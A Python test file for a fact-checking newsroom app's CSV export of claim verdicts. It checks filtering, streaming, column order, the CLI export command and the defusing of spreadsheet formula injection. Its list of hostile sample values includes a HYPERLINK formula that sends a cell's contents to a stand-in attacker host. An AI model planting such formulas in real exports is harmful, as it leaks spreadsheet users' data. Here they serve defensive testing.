"""The verdicts CSV: what a spreadsheet shows is what was stored, nothing in it runs, and it is
written as it is read."""

import csv
import io
from datetime import datetime

import pytest
from sqlalchemy import select

from factcheck.export import COLUMNS, safe_cell
from factcheck.extensions import db
from factcheck.models import Claim, Evidence, EvidenceStance

from . import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    'She said "no", then left',
    "Line one\nLine two, with a comma",
    "Café, naïve, Zürich — ✓ 🎉",
]


def export(client, query=""):
    response = client.get(f"/claims/export.csv{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def parse(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.fixture
def approved(app, users):
    """An approved verdict whose every text field holds hostile content."""
    claim_id = factories.claim_in(app, "approved", editor=users["editor"], reviewer=users["reviewer"])
    with app.app_context():
        claim = db.session.get(Claim, claim_id)
        claim.wording, claim.claimant, claim.rationale = HOSTILE[0], HOSTILE[8], HOSTILE[7]
        claim.article.title = HOSTILE[6]
        db.session.add(Evidence(claim=claim, url="https://b.example.org/2", source="B", stance=EvidenceStance.CONTEXT, added_by=claim.assignee))
        db.session.add(Evidence(claim=claim, url="https://secret.example.org", source="S", stance=EvidenceStance.CONTEXT, withheld=True, withheld_reason="x", added_by=claim.assignee))
        db.session.commit()
    return claim_id


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_that_would_run_get_a_leading_quote(value):
    cell = safe_cell(value)
    if value[0] in "=+-@\t\r":
        assert cell == "'" + value
    else:
        assert cell == value


def test_export_round_trips_through_a_csv_reader(app, users, client_as, approved):
    response = export(client_as("editor"))
    assert response.headers["Content-Disposition"].startswith('attachment; filename="factcheck-verdicts-')
    rows = parse(response.get_data(as_text=True))
    assert list(rows[0].keys()) == COLUMNS
    [row] = rows
    assert row["claim_text"] == "'" + HOSTILE[0]
    assert row["claimant"] == HOSTILE[8]
    assert row["rationale"] == HOSTILE[7]
    assert row["article_title"] == HOSTILE[6]
    assert row["evidence_urls"].split("\n") == ["https://stats.example.org/t4", "https://b.example.org/2"]  # withheld left out
    assert row["status"] == "approved" and row["rating"] == "False"
    assert datetime.fromisoformat(row["approved_at"].rstrip("Z"))
    assert row["claim_url"] == f"https://factcheck.desk.example.org/claims/{approved}"


def test_byte_order_mark_only_when_asked(client_as, approved):
    client = client_as("editor")
    assert not export(client).get_data(as_text=True).startswith("\ufeff")
    assert export(client, "?bom=1").get_data().startswith(b"\xef\xbb\xbf")


def test_export_selects_exactly_the_filtered_claims(app, users, client_as):
    from .test_queries import grow

    grow(app, users, articles=3, claims_per_article=14)
    client = client_as("viewer")
    default = parse(export(client).get_data(as_text=True))
    with app.app_context():
        approved_ids = set(db.session.scalars(select(Claim.id).where(Claim.status == "approved")))
        reviewer_ids = set(db.session.scalars(select(Claim.id).where(Claim.assignee_id == users["reviewer"])))
    assert {int(r["claim_id"]) for r in default} == approved_ids
    everyone = parse(export(client, f"?status=any&assignee={users['reviewer']}").get_data(as_text=True))
    assert {int(r["claim_id"]) for r in everyone} == reviewer_ids
    texty = parse(export(client, "?status=any&q=claim+1-1").get_data(as_text=True))
    assert {r["claim_text"] for r in texty} == {"Claim 1-1", "Claim 1-10", "Claim 1-11", "Claim 1-12", "Claim 1-13"}


@pytest.mark.parametrize(
    "query, message",
    [("?status=published", "no status"), ("?rating=77", "no rating"), ("?approved_from=2026-05-01&approved_to=2026-04-01", "ends before it starts"), ("?approved_to=yesterday", "not a date")],
)
def test_bad_filters_give_a_message_not_an_empty_file(client_as, query, message):
    client = client_as("editor")
    response = client.get(f"/claims/export.csv{query}")
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Nothing was exported" in page and message in page


def test_export_is_streamed(app, users, client_as):
    """The header goes out before the claims are even queried, and rows follow as they are read."""
    from .test_queries import counting, grow

    grow(app, users, articles=3, claims_per_article=14)
    client = client_as("editor")
    with counting(app) as statements:
        response = client.get("/claims/export.csv?status=any")
        assert response.is_streamed
        chunks = iter(response.response)
        first = next(chunks)
        assert first.decode().startswith("claim_id,article_title")
        assert not any("FROM claims" in s for s in statements)
        rest = b"".join(chunks).decode()
    assert any("FROM claims" in s for s in statements)
    assert len(parse(first.decode() + rest)) == 42


def test_the_list_offers_the_export_of_what_it_shows(client_as, approved):
    page = client_as("editor").get("/claims?status=approved&q=x").get_data(as_text=True)
    form = page.split('class="export-bar"')[1].split("</form>")[0]
    assert 'name="status" value="approved"' in form and 'name="q" value="x"' in form
    assert "export-bar" not in client_as("reviewer").get("/claims").get_data(as_text=True)


def test_export_command_writes_the_same_rows(app, users, approved, tmp_path):
    target = tmp_path / "out.csv"
    result = app.test_cli_runner().invoke(args=["export-verdicts", "--output", str(target), "--bom"])
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    [row] = parse(text)
    assert row["claim_id"] == str(approved) and row["claim_url"].endswith(f"/claims/{approved}")
    bad = app.test_cli_runner().invoke(args=["export-verdicts", "--status", "nope"])
    assert bad.exit_code != 0 and "no status" in bad.output
    # The list's outlet and claimant filters are the command's too.
    for options, expected in ((["--outlet", "test courier"], 1), (["--outlet", "Gazette"], 0), (["--claimant", "nobody at all"], 0)):
        result = app.test_cli_runner().invoke(args=["export-verdicts", "--status", "any", *options])
        assert result.exit_code == 0 and len(parse(result.output)) == expected, (options, result.output)


@pytest.mark.parametrize("status, name", [("approved", "factcheck-verdicts-"), ("open", "factcheck-claims-open-"),
                                          ("in_review", "factcheck-claims-in-review-"), ("any", "factcheck-claims-")])
def test_file_name_says_which_claims_it_holds(app, users, client_as, status, name):
    response = client_as("editor").get(f"/claims/export.csv?status={status}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith(f'attachment; filename="{name}2')


def test_export_follows_the_lists_sort_and_gives_due_dates(app, users, client_as):
    article = factories.make_article(app, users["editor"])
    quotes = ("Bus spending rises by 18 percent.", "Critics said property taxes would rise again.", "approved a budget")
    ids = [factories.claim_in(app, "assigned", editor=users["editor"], reviewer=users["reviewer"], article=article, quote=q) for q in quotes]
    with app.app_context():
        for claim_id, day in zip(ids, (20, 10, 30)):
            db.session.get(Claim, claim_id).due_at = datetime(2030, 1, day, 12, 0)
        db.session.commit()
    client = client_as("editor")
    order = lambda query: [int(r["claim_id"]) for r in parse(export(client, query).get_data(as_text=True))]  # noqa: E731
    assert order("?status=assigned") == ids  # a bare address: oldest first
    assert order("?status=assigned&sort=newest") == ids[::-1]
    assert order("?status=assigned&sort=due") == [ids[1], ids[0], ids[2]]
    rows = parse(export(client, "?status=assigned&sort=due").get_data(as_text=True))
    assert rows[0]["due_at"] == "2030-01-10T12:00:00Z"
    page = client.get("/claims?status=assigned&sort=due").get_data(as_text=True)
    assert '<input type="hidden" name="sort" value="due">' in page  # the list's button sends its sort


def test_documented_columns_keep_their_places_and_new_ones_come_last(client_as, approved):
    """Scripts read the file by position: the columns documented in the README keep their
    order, and columns added later follow them."""
    header = export(client_as("editor")).get_data(as_text=True).lstrip("\ufeff").splitlines()[0]
    assert header.split(",") == [
        "claim_id", "article_title", "article_url", "outlet", "article_published", "claim_text",
        "quoted_span", "claimant", "status", "rating", "rationale", "evidence_urls", "reviewer",
        "approved_by", "approved_at", "corrected_at", "claim_url",
        "due_at", "first_approved_at",
    ]


def test_a_corrected_verdict_keeps_its_first_approval_time(app, users, client_as, approved):
    from factcheck import workflow
    from factcheck.models import User

    with app.app_context():
        claim = db.session.get(Claim, approved)
        claim.approved_at = claim.first_published_at = datetime(2026, 1, 5, 9, 30)  # approved in January
        editor, reviewer = db.session.get(User, users["editor"]), db.session.get(User, users["reviewer"])
        workflow.issue_correction(claim, by=editor, note="A revised table.")
        workflow.save_verdict(claim, by=reviewer, rating=claim.rating, rationale="Still false.", submit=True)
        workflow.approve(claim, by=editor, note="The table was revised; the verdict stands.")
        db.session.commit()
    [row] = parse(export(client_as("editor")).get_data(as_text=True))
    assert row["first_approved_at"] == "2026-01-05T09:30:00Z"
    assert row["approved_at"] == row["corrected_at"] != "2026-01-05T09:30:00Z"
